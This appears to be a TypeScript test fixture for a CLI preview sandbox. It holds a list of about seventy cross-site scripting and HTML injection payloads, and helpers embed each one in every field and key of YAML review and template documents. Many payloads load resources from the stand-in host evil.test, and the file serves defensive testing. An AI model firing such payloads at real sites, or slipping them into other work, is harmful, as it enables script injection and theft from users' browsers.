// Injection payloads for the preview sandbox test (test/cli/sandbox.test.ts), and documents that
// carry one payload in every free-text field and as keys. `#` in a payload is replaced by its
// index, so a payload that runs reports which one it was: it calls `__pwned(#)` (a binding the
// test exposes), logs `PWNED #`, or asks for `https://evil.test/#…` (a request the test records).
import { stringify } from 'yaml';

const RAW: string[] = [
  // Script elements, plain and disguised.
  '<script>__pwned(#)</script>',
  '<SCRIPT SRC=https://evil.test/#.js></SCRIPT>',
  '<script src="data:text/javascript,__pwned(#)"></script>',
  '<script type=module>import("https://evil.test/#.js")</script>',
  '<scr<script>ipt>__pwned(#)</scr</script>ipt>',
  '</script><script>__pwned(#)</script>',
  '<!DOCTYPE html><html><head><script>__pwned(#)</script>',
  '<template><script>__pwned(#)</script></template>',
  // Event handlers.
  '<img src=x onerror=__pwned(#)>',
  '<img src=x onerror=&#95;&#95;pwned(#)>',
  '<svg onload=__pwned(#)>',
  '<svg><script>__pwned(#)</script></svg>',
  '<svg><animate onbegin=__pwned(#) attributeName=x dur=1s>',
  '<svg><use href="https://evil.test/#.svg#x"/></svg>',
  '<body onload=__pwned(#)>',
  '<input autofocus onfocus=__pwned(#)>',
  '<details open ontoggle=__pwned(#)>',
  '<video><source onerror=__pwned(#)></video>',
  '<audio src=x onerror=__pwned(#)>',
  '<marquee onstart=__pwned(#)>x</marquee>',
  '<x contenteditable autofocus onfocusin=__pwned(#)>x</x>',
  // Attribute breakouts.
  '" onmouseover="__pwned(#)" x="',
  "' onfocus='__pwned(#)' autofocus x='",
  '"><script>__pwned(#)</script>',
  "'><img src=x onerror=__pwned(#)>",
  '"onerror="__pwned(#)',
  '` onload=`__pwned(#)',
  // Script URLs.
  'javascript:__pwned(#)',
  '<a href="javascript:__pwned(#)" id=a#>x</a>',
  '<a href="jAvAsCrIpT&colon;__pwned(#)">x</a>',
  'jav&#x09;ascript:__pwned(#)',
  'data:text/html,<script>__pwned(#)</script>',
  '<iframe src="javascript:__pwned(#)"></iframe>',
  '<iframe srcdoc="<script>parent.__pwned(#)</script>"></iframe>',
  '<object data="https://evil.test/#.swf"></object>',
  '<embed src="https://evil.test/#.swf">',
  '<form action="https://evil.test/#"><button id=f#>x</button></form>',
  // CSS.
  '<style>@import "https://evil.test/#.css";</style>',
  '<style>body{background:url(https://evil.test/#.png)}</style>',
  '<div style="background:url(https://evil.test/#.png)">x</div>',
  'background: url("https://evil.test/#.png")',
  '</style><script>__pwned(#)</script>',
  '</style><img src=https://evil.test/#.png>',
  '<link rel=stylesheet href=https://evil.test/#.css>',
  '<link rel=prefetch href=https://evil.test/#>',
  '<img srcset="https://evil.test/#.png 1x">',
  // The head: meta, base, title.
  '<meta http-equiv="refresh" content="0;url=https://evil.test/#">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *"><script>__pwned(#)</script>',
  '<base href="https://evil.test/#/">',
  '</title><script>__pwned(#)</script>',
  '</textarea><script>__pwned(#)</script>',
  // Comments, CDATA, parser differentials.
  '<!--<img src=x onerror=__pwned(#)>-->',
  '--><script>__pwned(#)</script><!--',
  '<![CDATA[<script>__pwned(#)</script>]]>',
  '<!--ry:0:list--><script>__pwned(#)</script>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwned(#)>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned(#)>">',
  // Template syntaxes.
  '${__pwned(#)}',
  '`;__pwned(#);`',
  "{{constructor.constructor('__pwned(#)')()}}",
  // Homoglyphs, escapes that must stay text, controls.
  '＜script＞__pwned(#)＜/script＞',
  '<ѕcript>__pwned(#)</ѕcript>',
  '\\u003cscript\\u003e__pwned(#)\\u003c/script\\u003e',
  '&lt;script&gt;__pwned(#)&lt;/script&gt;',
  '&#60;img src=x onerror=__pwned(#)&#62;',
  '\u202E<script>__pwned(#)</script>',
  '<img src=x onerror=__pwned(#)\u0000>',
  '<scr\u0000ipt>__pwned(#)</script>',
  '<img src=x one\u200Brror=__pwned(#)>',
  'console.log("PWNED #")',
];

export const PAYLOADS: string[] = RAW.map((p, i) => p.replaceAll('#', String(i)));

/** A review with `p` in every free-text field, as keys (top-level and nested), in enums and in a directive. */
export function reviewWith(p: string): string {
  const doc = {
    kind: 'review',
    template: `templates/${p}.review.yaml`,
    type: p,
    status: 'held',
    period: { start: '2026-01-01', end: '2026-12-31' },
    employee: { name: p, id: p, role: p, department: p, [p]: p },
    reviewer: { name: p, role: p },
    approver: { name: p, role: p },
    meeting: { at: '2026-12-15T14:30', minutes: 60, notified_on: '2026-12-10', location: p, setting: p, agenda: [{ topic: p, minutes: 5 }] },
    materials: [p, 'evaluation-form'],
    goals: [{ id: p, title: p, measure: p, weight: 100, result: p, status: p, [p]: p }],
    competencies: [{ id: p, rating: 4, comment: p }],
    strengths: [{ text: p, evidence: p, date: '2026-09-14', goal: p }],
    improvements: [{ id: p, text: p, evidence: p }],
    improvement_plan: [{ addresses: p, action: p, owner: p, due: '2027-02-28', measure: p, support: p }],
    next_goals: [{ id: p, title: p, measure: p, due: '2027-12-31' }],
    support_requests: [{ request: p, response: p, note: p }],
    score: { value: 3, rationale: p },
    employee_response: { agreement: p, comment: p, appeal: { requested: true, channel: p, status: p } },
    follow_up: { on: '2027-03-15', note: p },
    signoffs: [{ role: p, name: p, on: '2026-12-16' }],
    [p]: { [p]: p },
  };
  const oneLine = p.replace(/[\r\n]/g, ' ');
  return `# review-disable ${oneLine}\n${stringify(doc, { lineWidth: 0 })}# ${oneLine}\n`;
}

/** A template with `p` everywhere a template holds text, and as keys. */
export function templateWith(p: string): string {
  return stringify({
    kind: 'template',
    name: p,
    type: p,
    scale: [{ value: 1, label: p, definition: p }, { value: 2, label: p }],
    competencies: [{ id: p, title: p, description: p }],
    materials: [p],
    agenda: [{ topic: p, minutes: 5 }],
    policy: { notice_days: 3, [p]: 1 },
    rules: { [p]: 'off' },
    [p]: p,
  }, { lineWidth: 0 });
}

/** A document the YAML parser rejects, so that the page shows the text as written. */
export function brokenWith(p: string): string {
  return `kind: review\nemployee: { name: ${JSON.stringify(p)}\n${p.replace(/[\r\n]/g, ' ')}: [\n  - ]]] {\n`;
}
